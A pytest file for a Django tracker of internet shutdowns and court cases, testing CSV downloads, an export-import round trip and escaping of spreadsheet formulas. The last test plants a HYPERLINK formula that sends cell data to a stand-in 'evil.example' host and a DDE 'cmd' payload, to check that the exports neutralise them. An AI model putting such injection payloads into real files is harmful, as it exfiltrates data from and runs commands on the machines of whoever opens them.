"""CSV downloads, and the round trip: export the demo, import into an empty database, export
again -> the same bytes."""

from __future__ import annotations

import csv
import io

import pytest

from drmonitor.api.csv_views import incident_csv_text
from drmonitor.tracker.models import (
    Actor,
    Campaign,
    Country,
    Court,
    Hearing,
    Incident,
    Law,
    LegalCase,
    Network,
    Service,
    Source,
    Statement,
)
from drmonitor.tracker.stop.columns import EXPORT_COLUMNS, STOP_COLUMNS
from drmonitor.tracker.stop.importer import import_stop

pytestmark = pytest.mark.django_db


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def empty_the_tracker() -> None:
    for model in (Incident, LegalCase, Statement, Campaign, Court, Service, Source, Actor):
        model.objects.all().delete()
    for model in (Network, Law, Country):
        model.objects.all().delete()


def test_incident_csv_download_has_stop_columns_then_ours(client, demo):
    response = client.get("/api/incidents.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response["Access-Control-Allow-Origin"] == "*"
    text = response.content.decode()
    header = text.splitlines()[0].split(",")
    assert header == EXPORT_COLUMNS and header[: len(STOP_COLUMNS)] == STOP_COLUMNS
    parsed = rows(text)
    assert len(parsed) == Incident.objects.count()
    x_ban = next(r for r in parsed if r["drm_slug"] == "x-blocked-in-pakistan")
    # STOP's formats: its timestamps, and a duration that counts the first and the last day.
    assert x_ban["start_date"] == "2024-02-17 00:00:00.000000"
    assert x_ban["end_date"] == "2025-05-07 00:00:00.000000"
    assert x_ban["drm_start_date"] == "2024-02-17" and x_ban["drm_end_date"] == "2025-05-07"
    assert x_ban["shutdown_type"] == "Shutdown" and x_ban["shutdown_extent"] == "Service-based"
    assert x_ban["twitter_affected"] == "Yes" and x_ban["facebook_affected"] == "No"
    assert x_ban["country"] == "Pakistan" and x_ban["region"] == "APAC"
    assert x_ban["shutdown_status"] == "Ended" and x_ban["duration"] == "446"
    assert x_ban["drm_url"] == "http://testserver/incidents/x-blocked-in-pakistan/"
    only_x = rows(client.get("/api/incidents.csv", {"service": "x"}).content.decode())
    assert 0 < len(only_x) < len(parsed)
    assert client.get("/api/incidents.csv", {"year": "1066"}).status_code == 400


def test_round_trip_export_import_export_gives_the_same_rows(demo):
    first = incident_csv_text(Incident.objects.order_by("start_date", "slug"), "https://drm.test")
    empty_the_tracker()
    assert Incident.objects.count() == Service.objects.count() == Country.objects.count() == 0

    report = import_stop(first, commit=True)
    assert report.committed, report.as_text()
    assert report.counts()["create"] == len(rows(first))

    second = incident_csv_text(Incident.objects.order_by("start_date", "slug"), "https://drm.test")
    assert second == first
    again = import_stop(second, commit=True)
    assert {r.action for r in again.rows} == {"unchanged"}


def test_cases_and_hearings_csv(client, demo):
    cases = rows(client.get("/api/cases.csv").content.decode())
    assert len(cases) == LegalCase.objects.count()
    assert all(c["url"].startswith("http://testserver/cases/") for c in cases)
    hearings = rows(client.get("/api/hearings.csv").content.decode())
    dates = [h["date"] for h in hearings]
    assert dates == sorted(dates) and len(dates) > 10


def test_case_csv_names_every_party_as_the_case_page_and_the_api_do(client, demo):
    case = LegalCase.objects.order_by("pk").first()
    case.petitioners.add(Actor.objects.create(name="Petitioning Person", kind="person"))
    case.petitioners_text = "and others as printed"
    case.save()
    row = next(
        r for r in rows(client.get("/api/cases.csv").content.decode()) if r["slug"] == case.slug
    )
    assert "Petitioning Person" in row["petitioners"]
    assert row["petitioners"].endswith("; and others as printed")
    record = client.get(f"/api/cases/{case.slug}").json()
    assert (row["petitioners"], row["respondents"]) == (
        record["petitioners"],
        record["respondents"],
    )
    page = client.get(case.get_absolute_url()).content.decode()
    assert "Petitioning Person" in page and "and others as printed" in page


def test_a_formula_typed_into_a_case_or_a_hearing_is_text_in_the_csv(client, demo):
    hearing = Hearing.objects.published().order_by("pk").first()
    case = hearing.case
    case.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    case.save()
    hearing.what_happened = "@SUM(1+1)*cmd|' /C calc'!A0"
    hearing.save()

    row = next(
        r for r in rows(client.get("/api/cases.csv").content.decode()) if r["slug"] == case.slug
    )
    assert row["title"] == "'" + case.title  # a spreadsheet shows it as text, runs nothing
    hearing_rows = rows(client.get("/api/hearings.csv").content.decode())
    row = next(r for r in hearing_rows if r["id"] == str(hearing.pk))
    assert row["what_happened"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["case_title"] == "'" + case.title
    # Numbers and dates are not formulas and stay as they are.
    assert row["date"][:1].isdigit()
